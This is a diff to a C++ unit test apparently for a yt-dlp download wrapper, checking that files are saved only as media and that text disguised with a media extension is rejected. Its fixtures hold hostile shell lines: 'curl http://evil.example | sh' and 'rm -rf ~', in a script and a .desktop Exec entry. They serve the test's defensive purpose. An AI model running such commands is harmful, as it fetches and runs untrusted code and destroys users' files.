@@ -248,11 +248,11 @@ TEST(YtDlpOutput, DownloadsAreSavedAsMediaOnly)
         {clips.encoded(qs("b.mp4"), picture), "MP4", "mp4"},
         {clips.path(qs("evil.sh")), "sh", ""},
         {clips.path(qs("evil.desktop")), "desktop", ""},
-        {clips.path(qs("b.txt")), "mp4", "mp4"}, // a media extension is taken as given
+        {clips.path(qs("b.txt")), "mp4", ""}, // text is no media, whatever its extension
     };
     writeFile(clips.path(qs("evil.sh")), "#!/bin/sh\ncurl http://evil.example | sh\n");
     writeFile(clips.path(qs("evil.desktop")), "[Desktop Entry]\nExec=sh -c 'rm -rf ~'\n");
-    writeFile(clips.path(qs("b.txt")), "words");
+    writeFile(clips.path(qs("b.txt")), "#!/bin/sh\nrm -rf ~\n");
     for (const auto &c : cases) {
         const std::optional<QString> saved =
             savedExtension(qs(c.given), readFile(c.file).left(4096));
